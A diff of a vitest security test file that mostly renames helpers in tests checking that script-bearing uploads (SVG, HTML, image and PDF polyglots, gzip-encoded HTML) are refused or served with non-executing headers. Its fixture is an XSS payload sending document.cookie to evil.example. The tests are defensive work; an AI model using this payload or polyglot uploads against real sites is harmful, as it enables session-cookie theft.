@@ -1,6 +1,6 @@
 import { gzipSync } from "node:zlib";
 import { beforeAll, describe, expect, test } from "vitest";
-import { call, file, newMember, type Person, report, upload } from "../support/actors.ts";
+import { call, fileReport, newMember, type Person, reportBody, upload } from "../support/actors.ts";
 import { BUCKET, db, ORIGIN, STORAGE, uniqueId } from "../support/suite.ts";
 import { expectFailure } from "./expect-failure.ts";
 
@@ -10,23 +10,23 @@ beforeAll(async () => {
   [member, other] = await Promise.all([newMember(), newMember()]);
 });
 
-const text = (value: string) => new TextEncoder().encode(value);
-const bytes = (...parts: (Uint8Array | number)[]) =>
+const encode = (value: string) => new TextEncoder().encode(value);
+const joinBytes = (...parts: (Uint8Array | number)[]) =>
   Uint8Array.from(parts.flatMap((part) => (typeof part === "number" ? [part] : [...part])));
 
-const SCRIPT = text("<script>fetch('https://evil.example/'+document.cookie)</script>");
-const SVG = bytes(text('<svg xmlns="http://www.w3.org/2000/svg">'), SCRIPT, text("</svg>"));
-const HTML = bytes(text("<!doctype html>"), SCRIPT);
-const PNG = bytes(0x89, text("PNG\r\n"), 0x1a, 0x0a);
+const SCRIPT = encode("<script>fetch('https://evil.example/'+document.cookie)</script>");
+const SVG = joinBytes(encode('<svg xmlns="http://www.w3.org/2000/svg">'), SCRIPT, encode("</svg>"));
+const HTML = joinBytes(encode("<!doctype html>"), SCRIPT);
+const PNG = joinBytes(0x89, encode("PNG\r\n"), 0x1a, 0x0a);
 
-const place = () => {
+const newPlace = () => {
   const issueId = uniqueId("i");
   return { issueId, path: `attachments/${member.uid}/${issueId}/f-1` };
 };
 
-async function filing(issueId: string, path: string, size: number, type: string, name: string) {
+async function fileWithAttachment(issueId: string, path: string, size: number, type: string, name: string) {
   const attachments = [{ name, size, type, url: `/api/${path}` }];
-  return await call("POST", "/api/issues", { as: member, body: report({ id: issueId, attachments }) });
+  return await call("POST", "/api/issues", { as: member, body: reportBody({ id: issueId, attachments }) });
 }
 
 describe("a page with a script, uploaded directly to Storage,", () => {
@@ -37,7 +37,7 @@ describe("a page with a script, uploaded directly to Storage,", () => {
     ["image/svg+xml; charset=utf-8", SVG],
     ["Text/HTML", HTML],
   ])("threat 5: is refused if its type is %s", async (type, content) => {
-    expect(await upload(member, place().path, content, type)).toBe(403);
+    expect(await upload(member, newPlace().path, content, type)).toBe(403);
   });
 
   test.each([
@@ -47,30 +47,30 @@ describe("a page with a script, uploaded directly to Storage,", () => {
     ["HTML", "image/gif", HTML],
     ["HTML", "image/webp", HTML],
     ["HTML", "application/pdf", HTML],
-    ["HTML after a byte order mark", "image/png", bytes(0xef, 0xbb, 0xbf, HTML)],
-    ["HTML after the signature of another type", "image/jpeg", bytes(PNG, HTML)],
-    ["HTML before the signature", "image/png", bytes(HTML, PNG)],
+    ["HTML after a byte order mark", "image/png", joinBytes(0xef, 0xbb, 0xbf, HTML)],
+    ["HTML after the signature of another type", "image/jpeg", joinBytes(PNG, HTML)],
+    ["HTML before the signature", "image/png", joinBytes(HTML, PNG)],
   ])("threat 5: cannot be filed as a file of another type: %s as %s", async (_, type, content) => {
-    const { issueId, path } = place();
+    const { issueId, path } = newPlace();
     expect(await upload(member, path, content, type)).toBe(200);
-    expectFailure(await filing(issueId, path, content.length, type, "a.png"), 400, "bad-request");
+    expectFailure(await fileWithAttachment(issueId, path, content.length, type, "a.png"), 400, "bad-request");
     expect((await db.doc(`issues/${issueId}`).get()).exists).toBe(false);
-    expect((await get(path, other)).status).toBe(404);
+    expect((await fetchFile(path, other)).status).toBe(404);
     await expectHarmless(path, type, member);
   });
 
   test.each([
-    ["a PNG that continues as HTML", "image/png", bytes(PNG, HTML)],
-    ["a GIF that continues as a script", "image/gif", bytes(text("GIF89a/*"), SCRIPT)],
-    ["a JPEG that continues as HTML", "image/jpeg", bytes(0xff, 0xd8, 0xff, 0xe0, HTML)],
-    ["a WebP that continues as HTML", "image/webp", bytes(text("RIFF"), 0, 0, 0, 0, text("WEBP"), HTML)],
-    ["a PDF that continues as HTML", "application/pdf", bytes(text("%PDF-1.7\n"), HTML)],
+    ["a PNG that continues as HTML", "image/png", joinBytes(PNG, HTML)],
+    ["a GIF that continues as a script", "image/gif", joinBytes(encode("GIF89a/*"), SCRIPT)],
+    ["a JPEG that continues as HTML", "image/jpeg", joinBytes(0xff, 0xd8, 0xff, 0xe0, HTML)],
+    ["a WebP that continues as HTML", "image/webp", joinBytes(encode("RIFF"), 0, 0, 0, 0, encode("WEBP"), HTML)],
+    ["a PDF that continues as HTML", "application/pdf", joinBytes(encode("%PDF-1.7\n"), HTML)],
     ["a text that is HTML", "text/plain", HTML],
     ["JSON that is SVG", "application/json", SVG],
   ])("threat 5: never runs if the file is valid as two types: %s", async (_, type, content) => {
-    const { issueId, path } = place();
+    const { issueId, path } = newPlace();
     expect(await upload(member, path, content, type)).toBe(200);
-    expect((await filing(issueId, path, content.length, type, "page.html")).status).toBe(201);
+    expect((await fileWithAttachment(issueId, path, content.length, type, "page.html")).status).toBe(201);
     await expectHarmless(path, type, other);
   });
 });
@@ -80,36 +80,36 @@ describe("the metadata that an uploader sets", () => {
     ["compressed", "gzip", gzipSync(HTML)],
     ["declared as compressed", "br", Buffer.from(HTML)],
   ])("threat 5: a file that is %s is refused, and read back as it is stored", async (_, contentEncoding, content) => {
-    const { issueId, path } = place();
-    await putWith(path, content, { contentType: "text/plain", contentEncoding });
-    expectFailure(await filing(issueId, path, content.length, "text/plain", "a.log"), 400, "bad-request");
-    const response = await get(path, member);
+    const { issueId, path } = newPlace();
+    await uploadWithMetadata(path, content, { contentType: "text/plain", contentEncoding });
+    expectFailure(await fileWithAttachment(issueId, path, content.length, "text/plain", "a.log"), 400, "bad-request");
+    const response = await fetchFile(path, member);
     expect(Number(response.headers.get("content-length"))).toBe(content.length);
     expect(new Uint8Array(await response.arrayBuffer())).toEqual(new Uint8Array(content));
   });
 
   test("threat 5: headers that the uploader chose are not sent in the response", async () => {
-    const { issueId, path } = place();
-    await putWith(path, Buffer.from(HTML), {
+    const { issueId, path } = newPlace();
+    await uploadWithMetadata(path, Buffer.from(HTML), {
       contentType: "text/plain",
       contentDisposition: "inline; filename=page.html",
       cacheControl: "public, max-age=31536000",
       contentLanguage: "en",
     });
     const attachments = [{ name: "a.log", size: HTML.length, type: "text/plain", url: `/api/${path}` }];
-    await file(member, { id: issueId, attachments });
+    await fileReport(member, { id: issueId, attachments });
     await expectHarmless(path, "text/plain", other);
-    expect((await get(path, other)).headers.get("cache-control")).toMatch(/^private,/);
+    expect((await fetchFile(path, other)).headers.get("cache-control")).toMatch(/^private,/);
   });
 });
 
-async function get(path: string, person: Person): Promise<Response> {
+async function fetchFile(path: string, person: Person): Promise<Response> {
   return await fetch(`${ORIGIN}/api/${path}`, { headers: { authorization: `Bearer ${person.idToken}` } });
 }
 
 /** Expects headers with which a browser runs nothing: the listed type without sniffing, and a sandbox. */
 async function expectHarmless(path: string, type: string, person: Person): Promise<void> {
-  const { status, headers } = await get(path, person);
+  const { status, headers } = await fetchFile(path, person);
   expect({ status, ...Object.fromEntries(headers) }).toMatchObject({
     status: 200,
     "content-type": expect.stringMatching(new RegExp(`^${type}(;|$)`)),
@@ -120,7 +120,11 @@ async function expectHarmless(path: string, type: string, person: Person): Promi
 }
 
 /** Uploads as the member with other metadata. */
-async function putWith(path: string, content: Buffer, metadata: { contentType: string } & Record<string, string>) {
+async function uploadWithMetadata(
+  path: string,
+  content: Buffer,
+  metadata: { contentType: string } & Record<string, string>,
+) {
   const described = JSON.stringify({ name: path, ...metadata });
   const body = Buffer.concat([
     Buffer.from(`--part\r\ncontent-type: application/json\r\n\r\n${described}\r\n`),
